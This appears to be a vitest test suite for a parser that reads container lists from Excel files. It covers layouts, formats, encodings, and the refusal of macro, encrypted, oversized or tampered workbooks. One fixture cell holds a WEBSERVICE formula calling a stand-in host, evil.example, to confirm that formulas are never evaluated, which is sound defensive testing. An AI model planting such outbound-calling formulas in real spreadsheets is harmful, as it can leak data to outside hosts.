import fc from 'fast-check';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import writeXlsxFile from 'write-excel-file/node';

import { rowsOf, type SheetParts, text, workbook, workbookParts, zipParts } from './build-workbook.ts';
import { A, B, C, codeOf, D, keysOf, linesOf, read } from './list-spec.ts';

const LIST = rowsOf(['Container'], [A], [B]);

/** A copy with some bytes changed after the last occurrence of a signature. */
function tamper(bytes: Uint8Array, signature: number[], offset: number, values: number[]): Uint8Array {
  const copy = Uint8Array.from(bytes);
  const at = Buffer.from(copy).lastIndexOf(Buffer.from(signature));
  copy.set(values, at + offset);
  return copy;
}
const DIRECTORY_ENTRY = [0x50, 0x4b, 1, 2];

describe('an Excel workbook', () => {
  test('gives the line that a person sees, though rows above are empty', async () => {
    const rows = `<row r="3">${text('B3', 'Container')}</row><row r="7">${text('B7', A)}</row>`;
    expect(await linesOf(workbook(rows))).toEqual([`7 ${A}`]);
  });
  test('may leave out where rows and cells are, or say it in the cells alone', async () => {
    const cell = (value: string) => `<c t="inlineStr"><is><t>${value}</t></is></c>`;
    const rows = `<row>${cell('x')}${cell('Container')}</row><row r="4">${cell('y')}${cell(A)}</row>
      <row>${cell('z')}${cell(B)}</row><row>${text('B9', C)}</row>`;
    expect(await linesOf(workbook(rows))).toEqual([`4 ${A}`, `5 ${B}`, `9 ${C}`]);
  });
  test('may have its rows and cells out of order', async () => {
    const rows = `<row r="3">${text('B3', B)}${text('A3', 'y')}</row><row r="1">${text('B1', 'Container')}</row><row r="2">${text('B2', A)}</row>`;
    expect(await linesOf(workbook(rows))).toEqual([`2 ${A}`, `3 ${B}`]);
  });
  test('keeps the digits of long numbers, and shows no exponents and rounding errors', async () => {
    const numbers = ['12345678901234567890', '4.102314E6', '0.30000000000000004', '1E-3', '-5'];
    const cells = numbers.map((number, at) => `<c r="${'BCDEF'[at]}2"><v>${number}</v></c>`);
    const rows = `<row r="1">${text('A1', 'Container')}</row><row r="2">${text('A2', A)}${cells.join('')}</row>`;
    expect((await read(workbook(rows))).rows[0]?.cells.slice(1)).toEqual([
      '12345678901234567890',
      '4102314',
      '0.3',
      '0.001',
      '-5',
    ]);
  });
  test('shows dates, times and leading zeros by the formats of its cells', async () => {
    const styles = `<numFmts><numFmt numFmtId="164" formatCode="[$-409]d\\ mmm\\ yyyy;@"/><numFmt numFmtId="165" formatCode="0000000"/>
      <numFmt numFmtId="166" formatCode="&quot;day&quot; 0.0"/><numFmt numFmtId="167" formatCode="[Red]#,##0"/></numFmts>
      <cellStyleXfs><xf numFmtId="14"/></cellStyleXfs>
      <cellXfs>${[0, 14, 22, 20, 164, 165, 166, 167].map((id) => `<xf numFmtId="${id}"/>`).join('')}</cellXfs>`;
    const values = ['46082', '46082', '46082.4375', '0.4375', '60', '18442', '46082', '46082'];
    const cells = values.map((value, at) => `<c r="${'BCDEFGHI'[at]}2" s="${at}"><v>${value}</v></c>`);
    const rows = `<row r="1">${text('A1', 'Container')}</row><row r="2">${text('A2', A)}${cells.join('')}</row>`;
    const cellsOf = async (settings: string) =>
      (await read(zipParts(workbookParts([{ rows }], { styles, settings })))).rows[0]?.cells.slice(1);
    expect(await cellsOf('')).toEqual([
      '46082',
      '2026-03-01',
      '2026-03-01 10:30:00',
      '10:30:00',
      '1900-02-29',
      '0018442',
      '46082',
      '46082',
    ]);
    expect((await cellsOf('<workbookPr date1904="1"/>'))?.slice(1, 4)).toEqual([
      '2030-03-02',
      '2030-03-02 10:30:00',
      '10:30:00',
    ]);
  });
  test('gives what is stored beside a formula, and works nothing out', async () => {
    const rows = `<row r="1">${text('A1', 'Container')}${text('B1', 'x')}</row>
      <row r="2">${text('A2', A)}<c r="B2" t="str"><f>WEBSERVICE("http://evil.example")</f><v>kept</v></c></row>
      <row r="3">${text('A3', B)}<c r="B3"><f>1+1</f></c></row>`;
    expect((await read(workbook(rows))).rows.map((row) => row.cells[1] ?? '')).toEqual(['kept', '']);
  });
  test('names formulas of the key column without values, whichever way they have none', async () => {
    const formulas = ['<f>X1</f>', '<f>X1</f><v></v>', '<f t="shared" si="0"/><v/>', '<f>X1</f><v>0</v>'];
    const rows = `${LIST}${formulas.map((xml, at) => `<row r="${at + 4}"><c r="A${at + 4}">${xml}</c></row>`).join('')}
      <row r="8"><c r="A8" t="str"><f>"FLDU"&amp;"4110027"</f><v>${C}</v></c></row>`;
    const settings = '<calcPr fullCalcOnLoad="1"/>';
    expect(await linesOf(zipParts(workbookParts([{ rows }], { settings })))).toEqual([
      `2 ${A}`,
      `3 ${B}`,
      ...[4, 5, 6, 7].map((line) => `${line} !FORMULA_NOT_STORED`),
      `8 ${C}`,
    ]);
  });
  test('reads shared strings with formats, phonetic guides, escapes, entities and CDATA', async () => {
    const strings = `<si><t>Container</t></si><si><r><t>FLDU</t></r><r><rPr><b/></rPr><t xml:space="preserve"> 410231-4</t></r><rPh sb="0" eb="1"><t>ignored</t></rPh></si>
      <si><t>FLDU<![CDATA[410]]>3774</t></si><si><t>a &amp; b &#x1F600; &#8364;_x000D__x005F_x</t></si>`;
    const cell = (reference: string, index: number) => `<c r="${reference}" t="s"><v>${index}</v></c>`;
    const rows = `<row r="1">${cell('A1', 0)}</row><row r="2">${cell('A2', 1)}${cell('B2', 3)}</row><row r="3">${cell('A3', 2)}${cell('B3', 99)}</row>`;
    const sheet = await read(zipParts(workbookParts([{ rows }], { strings })));
    expect(sheet.rows.map((row) => row.key)).toEqual([A, B]);
    expect(sheet.rows[0]?.cells[1]).toBe('a & b 😀 €\r_x');
  });
  test('may have prefixes, the namespaces of strict workbooks, and comments anywhere', async () => {
    const parts = workbookParts([{ rows: LIST }]);
    for (const [name, xml] of Object.entries(parts)) {
      parts[name] = `<?xml version="1.0"?><!-- x -->${xml}`
        .replaceAll(
          'http://schemas.openxmlformats.org/officeDocument/2006',
          'http://purl.oclc.org/ooxml/officeDocument',
        )
        .replaceAll(
          'http://schemas.openxmlformats.org/spreadsheetml/2006',
          'http://purl.oclc.org/ooxml/spreadsheetml',
        )
        .replaceAll(/<(\/?)(\w+)(?=[ >/])/g, name.includes('worksheets') ? '<$1x:$2' : '<$1$2')
        .replaceAll(' r:id', ' d3p1:id')
        .replaceAll('xmlns:r=', 'xmlns:d3p1=');
    }
    expect(await keysOf(zipParts(parts))).toEqual([A, B]);
  });
  test('may be in UTF-16 inside', async () => {
    const { 'xl/worksheets/sheet1.xml': sheet = '', ...parts } = workbookParts([{ rows: LIST }]);
    const xml = Buffer.from(`\uFEFF<?xml version="1.0" encoding="UTF-16"?>${sheet}`, 'utf16le');
    expect(await keysOf(zipParts(parts, { 'xl/worksheets/sheet1.xml': xml }))).toEqual([A, B]);
  });
  test('may call its parts what it likes, and write their paths as it likes', async () => {
    for (const part of [
      '/data/xsharedStrings.xml',
      './../xl/tabs/A%20b.xml',
      'Worksheets\\ONE.xml',
      '/styles.xml',
    ]) {
      const parts = workbookParts([{ rows: LIST, part }]);
      const sheet = Object.entries(parts).find(([, xml]) => xml.includes('sheetData'));
      const { [sheet?.[0] ?? '']: xml = '', ...others } = parts;
      const name = part === './../xl/tabs/A%20b.xml' ? 'xl/tabs/a b.xml' : (sheet?.[0] ?? '');
      expect(await keysOf(zipParts({ ...others, [name]: xml }))).toEqual([A, B]);
    }
  });
  test('may have its main part under another name', async () => {
    const moved = Object.entries(workbookParts([{ rows: LIST }])).map(([name, xml]): [string, string] => [
      name.replace('xl/workbook.xml', 'xl/book2.xml').replace('xl/_rels/workbook.xml', 'xl/_rels/book2.xml'),
      xml.replace('xl/workbook.xml', '/xl/book2.xml'),
    ]);
    expect(await keysOf(zipParts(Object.fromEntries(moved)))).toEqual([A, B]);
  });
  test('of a real program is read, dates and all', async () => {
    const bytes = await writeXlsxFile([
      [{ value: 'Container' }, { value: 'When' }],
      [{ value: A }, { value: new Date('2026-03-01T00:00:00Z'), type: Date, format: 'yyyy-mm-dd' }],
    ]).toBuffer();
    expect((await read(bytes)).rows[0]?.cells).toEqual([A, '2026-03-01']);
  });
  test('may have formats, and single cells, down to the last row and column', async () => {
    const rows = `${LIST}<row r="1048575" ht="12"><c r="XFD1048575" s="0"/></row><row r="1048576">${text('A1048576', C)}</row>`;
    expect(await linesOf(workbook(rows))).toEqual([`2 ${A}`, `3 ${B}`, `1048576 ${C}`]);
  });
});

describe('the sheet that is read', () => {
  const chosen: Record<string, [SheetParts[], name: string, others: string[]]> = {
    'is the one with the list': [
      [
        { name: 'Cover', rows: rowsOf(['Container list of the week']) },
        { name: 'Empty', rows: '' },
        { name: 'List', rows: LIST },
      ],
      'List',
      [],
    ],
    'is the one with most numbers': [
      [
        { name: 'Few', rows: rowsOf(['Container'], [C]) },
        { name: 'Many', rows: LIST },
        { name: 'Same', rows: LIST },
      ],
      'Many',
      ['Same', 'Few'],
    ],
    'is never a hidden one': [
      [
        { name: 'a', state: 'hidden', rows: rowsOf(['Container'], [C], [D], [A]) },
        { name: 'b', state: 'veryHidden', rows: rowsOf(['Container'], [C], [D], [A]) },
        { name: 'c', rows: rowsOf(['Container'], [A]) },
      ],
      'c',
      [],
    ],
    'is no chart, dialog or macro': [
      [
        { name: 'Chart', kind: 'chartsheet', rows: LIST },
        { name: 'Dialog', kind: 'dialogsheet', rows: LIST },
        { name: 'Macro', kind: 'xlMacrosheet', rows: LIST },
        { name: 'List', rows: LIST },
      ],
      'List',
      [],
    ],
    'may stand beside one that cannot be read': [
      [
        { name: 'Wide', rows: `<row r="1">${text('XFD1', 'x')}</row>` },
        { name: 'List', rows: LIST },
      ],
      'List',
      [],
    ],
  };
  for (const [how, [sheets, name, others]] of Object.entries(chosen)) {
    test(how, async () => {
      expect((await read(zipParts(workbookParts(sheets)))).sheet).toEqual({ name, others, hiddenRows: 0 });
    });
  }
  test('is read with its hidden rows, which are counted', async () => {
    const rows = rowsOf(['Container'], [A], [B]).replace('<row r="3"', '<row r="3" hidden="1"');
    const { sheet, counts } = await read(workbook(rows));
    expect([sheet?.hiddenRows, counts.valid]).toEqual([1, 2]);
  });
  test('is read in its visible columns', async () => {
    const rows = rowsOf(['Container No', 'Unit'], [C, A], [D, B]);
    const parts = workbookParts([{ rows }]);
    const part = 'xl/worksheets/sheet1.xml';
    parts[part] = (parts[part] ?? '').replace(
      '<sheetData>',
      '<cols><col min="1" max="1" hidden="1"/></cols><sheetData>',
    );
    expect(await keysOf(zipParts(parts))).toEqual([A, B]);
  });
  test('is asked for if only hidden sheets have a list', async () => {
    const sheets: SheetParts[] = [{ rows: '' }, { name: 'Old', state: 'hidden', rows: LIST }];
    await expect(read(zipParts(workbookParts(sheets)))).rejects.toMatchObject({
      code: 'NO_ROWS',
      message: expect.stringContaining('unhide the one with the list'),
    });
  });
});

const refused: Record<string, [Uint8Array, string]> = {
  'is some other zip': [zipSync({ 'a.txt': strToU8('hello') }), 'FILE_TYPE_UNSUPPORTED'],
  'has macros': [workbook(LIST, { 'xl/vbaProject.bin': strToU8('x') }), 'FILE_TYPE_UNSUPPORTED'],
  'unpacks to a hundred times its size': [workbook(`${LIST}${'<row/>'.repeat(3_000_000)}`), 'FILE_TOO_LARGE'],
  'has a thousand parts': [
    workbook(
      LIST,
      Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`xl/${i}.xml`, strToU8('<x/>')])),
    ),
    'FILE_TOO_LARGE',
  ],
  'is cut off': [workbook(LIST).subarray(0, -30), 'FILE_MALFORMED'],
  'has a wrong checksum': [tamper(workbook(LIST), DIRECTORY_ENTRY, 16, [1, 2, 3, 4]), 'FILE_MALFORMED'],
  'is encrypted': [tamper(workbook(LIST), DIRECTORY_ENTRY, 8, [1]), 'FILE_TYPE_UNSUPPORTED'],
  'has one part twice, in other case': [
    workbook(LIST, { 'XL/Workbook.xml': strToU8('<x/>') }),
    'FILE_MALFORMED',
  ],
  'has parts outside the archive': [
    tamper(workbook(LIST), DIRECTORY_ENTRY, 42, [0xff, 0xff, 0xff, 0x7f]),
    'FILE_MALFORMED',
  ],
  'is an old or a protected one': [
    new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    'FILE_TYPE_UNSUPPORTED',
  ],
  'has a row that does not exist': [workbook(`${LIST}<row r="4000000000"/>`), 'FILE_MALFORMED'],
  'has a row number in disguise': [workbook(`${LIST}<row r="9e9"/>`), 'FILE_MALFORMED'],
  'has a cell below the last row of all': [
    workbook(`${LIST}<row>${text('A3000000', A)}</row>`),
    'FILE_MALFORMED',
  ],
  'has a cell in the last column of all': [
    workbook(`<row r="1">${text('A1', 'Container')}${text('XFD1', 'x')}</row>`),
    'FILE_MALFORMED',
  ],
  'has a cell in no column': [
    workbook(`${LIST}<row r="3"><c r="ZZZZZZZZ3"><v>1</v></c></row>`),
    'FILE_MALFORMED',
  ],
  'is no XML inside': [workbook('<row r="1"><c r="A1"'), 'FILE_MALFORMED'],
  'has no rows': [workbook(''), 'NO_ROWS'],
  'has a header only': [workbook(`<row r="1">${text('A1', 'Container')}</row>`), 'NO_ROWS'],
};
const LOST = workbookParts([{ rows: LIST }]);
LOST['xl/_rels/workbook.xml.rels'] = '<Relationships/>';
const named: Record<string, [Uint8Array, message: string]> = {
  'an OpenDocument file without its type': [
    zipSync({ 'content.xml': strToU8('<x/>'), 'META-INF/manifest.xml': strToU8('<x/>') }),
    'an OpenDocument file',
  ],
  'a workbook whose sheets cannot be found': [zipParts(LOST), 'damaged'],
  'a dBASE table': [new Uint8Array([3, 126, 11, 30, 2, 0, 0, 0, 65, 0]), 'dBASE'],
  'a Lotus worksheet': [new Uint8Array([0, 0, 2, 0, 6, 4, 6, 0]), 'Lotus'],
  'a Parquet file': [strToU8('PAR1\0\0'), 'Parquet'],
  'a WebP picture': [strToU8('RIFF\x10\0\0\0WEBPVP8 '), 'a picture'],
  'a HEIC picture': [strToU8('\0\0\0\x18ftypheic'), 'a picture'],
  'SYLK without a program': [strToU8('ID;\r\nC;Y1;X1;K"Container"\r\nE'), 'SYLK'],
  'a part of a web page': [strToU8('<tr><td>Container</td></tr>'), 'HTML'],
};
for (const [what, [bytes, message]] of Object.entries(named)) {
  test(`${what} is refused as what it is`, async () => {
    await expect(read(bytes)).rejects.toThrow(message);
  });
}
for (const [how, [bytes, code]] of Object.entries(refused)) {
  test(`a workbook that ${how} is refused: ${code}`, async () => expect(await codeOf(bytes)).toBe(code));
}

test('a size that the directory makes up is not believed', async () => {
  const claimed = tamper(workbook(LIST), DIRECTORY_ENTRY, 24, [0xff, 0xff, 0xff, 0x7f]);
  expect(await codeOf(claimed)).toBe('accepted');
});

test('a workbook with any bytes changed is read or refused with a typed error', async () => {
  const whole = workbook(LIST);
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 8 }),
      async (changes) => {
        const bytes = Uint8Array.from(whole);
        for (const [at, value] of changes) bytes[at] = value;
        expect(await codeOf(bytes)).toEqual(expect.any(String));
      },
    ),
  );
});

test('any XML in the sheet is read or refused with a typed error', async () => {
  const piece = fc.constantFrom(
    '<row r="1">',
    '</row>',
    '<c r="A1">',
    '<c r="B1" t="s">',
    '<c r="A2" t="e">',
    '<c>',
    '</c>',
    '<v>1</v>',
    '<v>x</v>',
    '<is><t>Container</t></is>',
    '&amp;',
    '<![CDATA[x]]>',
    '<',
    '>',
    '"',
  );
  await fc.assert(
    fc.asyncProperty(fc.array(piece, { maxLength: 12 }), async (pieces) => {
      expect(await codeOf(workbook(pieces.join('')))).toEqual(expect.any(String));
    }),
  );
});
